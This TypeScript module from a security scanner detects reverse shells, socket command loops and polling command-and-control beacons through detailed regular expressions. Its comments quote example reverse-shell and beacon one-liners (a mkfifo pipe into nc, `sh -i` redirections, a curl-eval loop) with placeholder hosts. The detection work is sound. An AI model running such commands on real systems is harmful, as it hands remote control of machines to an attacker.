// Reverse and bind shells: a shell whose input and output are a network connection, in every form the
// cheat sheets list (bash /dev/tcp, named pipes into nc/openssl/telnet, nc/ncat -e, socat exec, Python, Perl,
// Ruby, PHP, Lua, Node, Go, Java, C#, PowerShell TcpClient, awk /inet, zsh ztcp, xterm to a remote display,
// the named PowerShell tools), on one line or across the lines of a script.

import { words } from "../hints.js";
import { linesFor } from "../required-words.js";
import type { AuditGate, AuditLine, AuditText, TextHit } from "../rule-types.js";
import { eachMatch, lineOf, startsOf, window } from "../text.js";

/**
 * One-line shapes (moved from rules/execution.ts; round 9 added the NEW lines at the end). `/dev/tcp` to the
 * loopback reaches no other machine: a port check or a container's health check (`exec 3<>/dev/tcp/127.0.0.1/5432`).
 */
const ONE_LINE = String.raw`\/dev\/(?:tcp|udp)\/(?!(?:127\.\d{1,3}\.\d{1,3}\.\d{1,3}|localhost)\/)[\w.$-]{1,253}\/[\d$]{1,10}|\b(?:nc|ncat|netcat)\b[^\n]{0,300}\s(?:-(?:e|c)|--(?:exec|sh-exec))[\s=]*["']?\S{0,100}(?:sh|bash|cmd(?:\.exe)?)\b|\bztcp\b[^\n]{0,200}[<>]&\s*\$REPLY\b|\b(?:ba|z|da)?sh\s+-i\s*<&\s*\d\s*>&\s*\d|\bmkfifo\b[^\n]{0,300}\|\s*(?:nc|ncat|telnet|openssl\s+s_client)\b|\bsocat\b[^\n]{0,300}\b(?:exec|system):[^\n]{0,300}(?:sh|bash)|\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh|\bsocket\b[^\n]{0,200}\.connect\s*\([^\n]{0,200}\bos\.dup2\b|\bNew-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\b[^\n]{0,300}\bGetStream\b|\bchild_process\b[^\n]{0,200}\bnet\.Socket\b[^\n]{0,200}\bpipe\b|\bopen\s*\(\s*STDIN\s*,\s*["']>&|\bfsockopen\s*\([^\n]{0,200}\b(?:exec|shell_exec|system|proc_open|passthru)\b|-rsocket\b[^\n]{0,200}\b(?:exec|spawn|IO\.popen)|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["'][^\n]{0,40}\)[^\n]{0,10}$|\/inet\/tcp\/\d{1,5}\/[\w.-]{1,253}\/\d{1,5}|\btelnet\s+\S{1,253}\s+\d{1,5}\s*\|\s*(?:\/bin\/)?(?:ba|z)?sh\b|\.GetStream\(\)[^\n]{0,600}\b(?:Invoke-Expression|iex)\b|\b(?:Invoke-Expression|iex)\b[^\n]{0,600}\.GetStream\(\)`;
const ONE_LINE_MORE = [
  // A named pipe made with mknod (mkfifo's older spelling) between a shell and a network tool.
  String.raw`\bmknod\b[^\n]{0,300}\|\s*(?:nc|ncat|telnet|openssl\s+s_client)\b`,
  // An interactive shell sent to /dev/tcp with the host and port in quotes or variables (`/dev/tcp/"$d"`); a
  // placeholder (`/dev/tcp/host/port` in a detection rule's message) is neither.
  String.raw`\b(?:ba|z|k)?sh\s+-i\b[^\n]{0,20}\/dev\/(?:tcp|udp)\/(?=["'$])`,
  // Perl's IO::Socket::INET handed to STDIN/STDOUT or to system() per line read.
  String.raw`\bIO::Socket::INET\b[^\n]{0,300}\b(?:fdopen|system|exec)\b`,
  // PHP's stream_socket_client run into a shell.
  String.raw`\bstream_socket_client\s*\([^\n]{0,300}\b(?:exec|shell_exec|system|proc_open|passthru|popen)\b`,
  // The PowerShell tools named for it: powercat, nishang's Invoke-PowerShellTcp, Invoke-ConPtyShell.
  String.raw`\bpowercat(?:\.ps1)?\b[^\n]{0,100}\s-c\s+\S{1,253}[^\n]{0,80}\s-e\s+["']?\S{0,60}(?:cmd|powershell|pwsh|sh)\b|\bInvoke-PowerShellTcp(?:OneLine)?\b[^\n]{0,100}-(?:Reverse|Bind)\b|\bInvoke-ConPtyShell\b[^\n]{0,100}(?:-RemoteIp\b|\s\d{1,3}(?:\.\d{1,3}){3}\b)`,
  // Lua's socket library connected and what it receives run by io.popen.
  String.raw`\brequire\s*\(?\s*["']socket["']\s*\)?[^\n]{0,300}\bconnect\s*\([^\n]{0,300}\bio\.popen\b`,
  // An xterm opened on a remote X display (a loopback or forwarded display is the user's own).
  String.raw`\bxterm\b[^\n]{0,40}\s-display\s+(?!127\.)\d{1,3}(?:\.\d{1,3}){3}:\d{1,2}\b`,
  // A shell payload built for a named host (msfvenom's LHOST); a placeholder (`LHOST=<ip>`, `$IP`) names nobody.
  String.raw`\bmsfvenom\b[^\n]{0,200}(?:reverse|bind|meterpreter)[^\n]{0,200}\bLHOST=(?!localhost\b|127\.|0\.0\.0\.0\b)[\w-]{1,63}(?:\.[\w-]{1,63})+`,
  // Round 28: an interactive shell's output piped into a network client on its own line, the named pipe made on
  // the line before (`mkfifo /tmp/f` then `cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f`).
  String.raw`\b(?:ba|z|k|da)?sh\s+-i\b[^\n|]{0,120}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s`,
  // Round 28: the socket's descriptor given by a format or a variable (Ruby's `sprintf('/bin/sh -i <&%d >&%d', f, f)`).
  String.raw`\b(?:ba|z|k|da)?sh\s+-i\s*<&\s*(?:%d|\{\w{0,20}\}|\$\{?\w{1,20}\}?|#\{\w{1,20}\})\s*>&`,
  // A service that answers with a reverse shell to the host and port in its path, piped into a shell.
  String.raw`\breverse-shell\.sh\/[\w.-]{1,253}:\d{1,5}`,
].join("|");

export const REVERSE_SHELL = new RegExp(`${ONE_LINE}|${ONE_LINE_MORE}`, "gim");
export const REVERSE_SHELL_HINTS = words(
  "/dev/tcp|/dev/udp|nc |nc.traditional|nc.openbsd|ncat|netcat|msfvenom|reverse-shell.sh|mkfifo|socat|pty.spawn|dup2|tcpclient|net.socket|fsockopen|rsocket|stdin|spawn|/inet/|telnet|getstream|ztcp|sh -i|mknod|io::socket|stream_socket_client|powercat|powershelltcp|conptyshell|xterm|io.popen",
);

/**
 * A port probe: `/dev/tcp` opened and nothing read from it or written to it (`timeout 1 bash -c '</dev/tcp/db/5432'`,
 * `echo > /dev/tcp/host/443`, `: </dev/tcp/…`), the redirection alone between a quote, a bracket or the line's start
 * and the command's end. A reverse shell reads its commands from the socket or hands it a shell's streams.
 */
const PROBE_BEFORE = /(?:^|["'(;&|]|\b(?:echo|true|:|exec\s+\d))\s*[<>]\s*$/;
const PROBE_AFTER = /^\s*(?:["')]|&&|\|\||;|2>|>\s*\/dev\/null|$)/;
export function portProbe(f: AuditText, hit: TextHit): boolean {
  const t = f.text;
  if (!t.startsWith("/dev/", hit.index)) return false;
  const lineStart = t.lastIndexOf("\n", hit.index) + 1;
  const before = t.slice(Math.max(lineStart, hit.index - 40), hit.index);
  const lineEnd = t.indexOf("\n", hit.index);
  const after = t.slice(
    hit.index + hit.length,
    Math.min(lineEnd < 0 ? t.length : lineEnd, hit.index + hit.length + 40),
  );
  return PROBE_BEFORE.test(before) && PROBE_AFTER.test(after) && !/\bexec\s+\d\s*<>\s*$/.test(before);
}

/**
 * A socket wired to a shell's input and output across lines (a reverse shell in a script). `gate` (the
 * scanner's, for REVERSE_SHELL_STREAM_GATES) skips the socket search on a file without its words.
 */
export function reverseShellStream(
  f: AuditText,
  lines: readonly AuditLine[] = [],
  gate?: AuditGate,
): TextHit[] {
  const t = f.text;
  const polled = pollLoop(f, linesFor(ENDLESS, lines, gate));
  if (polled.length > 0) return polled;
  if (gate && !gate(SOCKET_OPEN, 0, t.length)) return [];
  const socket = SOCKET_OPEN.exec(t);
  if (!socket) return [];
  const at = [{ index: socket.index, length: socket[0].length }];
  if (SHELL_STARTED.test(t) && SHELL_WIRED.test(t)) return at;
  // PowerShell: the stream of a TcpClient read and its text run with iex, over several lines.
  if (
    /\bTCPClient\b/i.test(socket[0]) &&
    /\.GetStream\(\)/i.test(t) &&
    /\b(?:iex|Invoke-Expression)\b|\[scriptblock\]::Create\b/i.test(t)
  )
    return at;
  return commandLoop(f);
}

const SOCKET_OPEN =
  /\b(?:new\s+net\.Socket|net\.(?:connect|createConnection)|socket\.socket|socket\.create_connection|TCPSocket\.(?:new|open)|fsockopen|net\.Dial(?:Timeout)?\s*\(\s*"tcp"|Net\.Sockets\.TCPClient|WebSocket(?:App)?\s*\(|stream_socket_client\s*\(|new\s+(?:Socket|TcpClient)\s*\(|IO::Socket::INET\b|socket\.tcp\(\)|websocket\.create_connection\s*\(|websockets\.connect\s*\(|asyncio\.open_connection\s*\(|TcpStream::connect\s*\(|Deno\.connect\s*\(|\btls\.connect\s*\(|Bun\.connect\s*\(|require\(\s*["'](?:node:)?net["']\s*\)\.(?:connect|createConnection)\s*\(|socket\s*\(\s*AF_INET6?\s*,\s*SOCK_STREAM\b|Socket\.connect\s*\(|gen_tcp\.connect\s*\()/i;
const SHELL_STARTED =
  /\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bspawn\s*\([^,;\n]{0,80}\?\s*[^,;\n]{0,80}["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)["']|\bsubprocess\.\w{1,10}\(\s*\[\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bpty\.spawn\b|\bos\.dup2\b|\bexec\.Command\(\s*"(?:\/bin\/)?(?:ba|z)?sh"|\bproc_open\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh\b|\bnew\s+ProcessBuilder\s*\(\s*"(?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)"|\bRuntime\.getRuntime\(\)\.exec\(\s*"(?:\/bin\/)?(?:ba|z)?sh"|\bFileName\s*=\s*"(?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|\/bin\/(?:ba|z)?sh)"|\bnew\s+ProcessStartInfo\s*\(\s*"(?:cmd|powershell)(?:\.exe)?"|\bCommand::new\(\s*"(?:\/bin\/)?(?:ba|z)?sh"|\bexecl?[vpe]{0,2}\s*\(\s*"\/bin\/(?:ba|z)?sh"|\bProcess\.start\s*\(\s*["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["']|\bexec\.Command\(\s*"(?:cmd(?:\.exe)?|powershell(?:\.exe)?)"|\bnew\s+Deno\.Command\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bBun\.spawn\(\s*\[\s*["'](?:\/bin\/)?(?:ba|z)?sh["']|\bString\s+\w{1,40}\s*=\s*"(?:\/bin\/(?:ba|z)?sh|cmd(?:\.exe)?)"\s*;[\s\S]{0,300}\bnew\s+ProcessBuilder\s*\(/;
const SHELL_WIRED =
  /\.pipe\(\s*\w{1,40}\.stdin\s*\)|stdin\s*=\s*\w{1,40}(?:\.fileno\(\))?|\bos\.dup2\s*\(\s*\w{1,40}\.fileno\(\)|\.Stdin\b[^\n=]{0,60}=\s*\w{1,40}|(?:\[|array\()\s*0\s*=>\s*\$\w{1,40}|\[:in,\s*:out(?:,\s*:err)?\]\s*=>\s*\w{1,40}|\bin:\s*\w{1,40}\s*,\s*out:|\.getInputStream\(\)[\s\S]{0,300}\.getInputStream\(\)|\bRedirectStandardInput\s*=\s*true\b|\.stdin\(\s*(?:unsafe\s*\{\s*)?Stdio::from_raw_fd\b|\bdup2\s*\(\s*\w{1,40}\s*,\s*(?:0|STDIN_FILENO)\s*\)|\.listen\(\s*\w{1,40}\.stdin\.add\b|\.stdout\.pipe\(\s*\w{1,40}\s*\)|\.pipeTo\(\s*\w{1,40}\.stdin\b|\.stdin\.write\(\s*\w{1,40}\s*\)/;

/** What a socket receives, named: `cmd = s.recv(…)`, `c.on('data', (d) =>`, `$d = $s.Read(…)`. */
// Round 29: Go's `line, err := r.ReadString('\n')`, Java's `readLine`, PHP's `$line = fgets($s)` (a function, not a method).
const RECEIVED =
  /\b(\w{1,40})(?:\s*,\s*\w{1,40})?\s*:?=\s*[^\n=]{0,60}[.:](?:recv|read|readline|readLine|Read|ReadLine|ReadString|ReadBytes|gets|receive)\b\s*\(?|\$(\w{1,40})\s*=\s*<\$\w{1,40}>|\.on\(\s*["']data["']\s*,\s*(?:async\s+)?(?:function\s*)?\(?\s*(\w{1,40})|\$(\w{1,40})\s*=\s*(?:fgets|fread|socket_read|stream_get_line|stream_get_contents)\s*\(|\{:ok,\s*(\w{1,40})\}\s*=\s*:gen_tcp\.recv\(/g;
/** Text run as a command; `%s` is the received name. */
// Round 29: PHP's shell_exec, passthru, popen and proc_open; Java's `exec(new String[] {"/bin/sh", "-c", cmd})`; C#'s
// `Process.Start("cmd.exe", "/c " + line)` and its ProcessStartInfo.
const RUNS_RECEIVED = String.raw`(?:\bsubprocess\.\w{1,12}|\bos\.(?:system|popen)|\bexec(?:Sync)?|\beval|\bInvoke-Expression|\biex|\bexec\.Command\(\s*"(?:\/bin\/)?(?:ba|z)?sh"\s*,\s*"-c"\s*,|\b(?:io|IO)\.popen|\bcreate_subprocess_shell|\bsystem|\b(?:shell_exec|passthru|popen|proc_open|pcntl_exec))\s*[({]?\s*\$?%s\b|\x60\$%s\b|\bqx[({]\s*\$%s\b|\bexec\s*\(\s*new\s+String\s*\[\s*\]\s*\{[^}\n]{0,60},\s*%s\s*\}|["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,\s*\[?\s*["']-c["']\s*,\s*&?%s\b|\b(?:Process\.Start|ProcessStartInfo)\s*\(\s*"(?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|\/bin\/(?:ba|z)?sh)"\s*,\s*"[^"\n]{0,12}"\s*\+\s*%s\b`;

/**
 * A command loop: what a socket receives is run as a command (`out = subprocess.run(cmd, shell=True)` after
 * `cmd = s.recv(4096)`; `c.on('data', d => exec(d.toString(), …))`), within a few lines. A server that runs
 * fixed commands, or parses what it receives, is not one.
 */
function commandLoop(f: AuditText): TextHit[] {
  const starts = startsOf(f);
  let hit: TextHit | undefined;
  let seen = 0;
  // The file's first 200 receives: enough for a loop, bounded on a long file.
  eachMatch(RECEIVED, f.text, (m) => {
    if (hit || ++seen > 200) return;
    const name = m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5]!;
    const line = lineOf(starts, m.index);
    const after = window(f.text, starts, line, 0, 6).text;
    if (new RegExp(RUNS_RECEIVED.replaceAll("%s", name)).test(after))
      hit = { index: starts[line]!, length: Math.max(1, m[0].length) };
  });
  return hit ? [hit] : [];
}

// ---- A command-and-control loop over HTTP: the same remote control as a socket, polled ----

/** A loop that never ends by itself (`while true`, `while :`, `while ($true)`, `while True:`, `for (;;)`, setInterval). */
// Round 28: `while :;` (the colon before a semicolon has no word boundary) and a PowerShell fetch of a URL held in
// a variable (`$u = "https://…"` above the loop).
const ENDLESS =
  /\bwhile\s+(?:(?:true|1)\b|:(?=[\s;]))|\bwhile\s*\(\s*(?:\$?true|1)\s*\)|\bwhile\s+True\s*:|\bfor\s*\(\s*;\s*;\s*\)|\bsetInterval\s*\(|\bloop\s*\{/;
/** What it fetches each time round. */
const FETCHES =
  /\b(?:curl|wget|iwr|irm|Invoke-RestMethod|Invoke-WebRequest)\b[^\n]{0,200}https?:\/\/|\b(?:iwr|irm|Invoke-RestMethod|Invoke-WebRequest)\s+(?:-Uri\s+)?\$\w{1,40}\b|\b(?:requests|httpx)\.get\s*\(|\burlopen\s*\(|\bfetch\s*\(|\.DownloadString\s*\(|\.Open\s*\(?\s*"GET"\s*,\s*"https?:/i;
/** …run as a command: eval/iex of a variable or a substitution, `sh -c "$x"`, exec/system/shell=True of a name. */
const RUNS_FETCHED =
  /\beval\s+["']?\$|\b(?:iex|Invoke-Expression)\s*\(?\s*\$|\b(?:ba|z)?sh\s+-c\s+["']?\$|\|\s*(?:ba|z)?sh\b|\bsubprocess\.\w{1,12}\(\s*\w{1,40}\b[^\n]{0,60}shell\s*=\s*True|\bos\.(?:system|popen)\(\s*\w{1,40}(?:\.\w{1,20}){0,2}\s*\)|\bsubprocess\.(?:getoutput|getstatusoutput)\(\s*\w{1,40}(?:\.\w{1,20}){0,2}\s*\)|\bcreate_subprocess_shell\(\s*\w{1,40}\b|\bexec(?:Sync)?\(\s*\w{1,40}(?:\.\w{1,20}){0,2}\s*[,)]|\beval\(\s*\w{1,40}(?:\.\w{1,20}){0,2}\s*\)|\.(?:Exec|Run)\s*\(?\s*(?:"cmd(?:\.exe)?\s+\/c\s*"\s*&\s*)?\w{1,40}\.responseText\b/;
const WAITS =
  /\bsleep\b|\bStart-Sleep\b|\btime\.sleep\b|\bsetInterval\s*\(|\bsetTimeout\s*\(|\bthread::sleep\b/i;

/** The expressions reverseShellStream tries on a file's lines or its whole text, gated by their words. */
export const REVERSE_SHELL_STREAM_GATES: readonly RegExp[] = [ENDLESS, SOCKET_OPEN];

/**
 * A beacon: an endless loop that fetches from a server, runs what it gets and waits (`while true; do c=$(curl
 * …); eval "$c"; sleep 30; done`), within 8 lines of the loop's head. A status poll that only compares what it
 * fetches runs nothing.
 */
function pollLoop(f: AuditText, lines: readonly AuditLine[]): TextHit[] {
  const starts = startsOf(f);
  for (const l of lines) {
    if (!ENDLESS.test(l.text)) continue;
    const w = window(f.text, starts, lineOf(starts, l.index), 0, 8).text;
    if (FETCHES.test(w) && RUNS_FETCHED.test(w) && WAITS.test(w))
      return [{ index: l.index, length: l.text.length }];
  }
  return [];
}
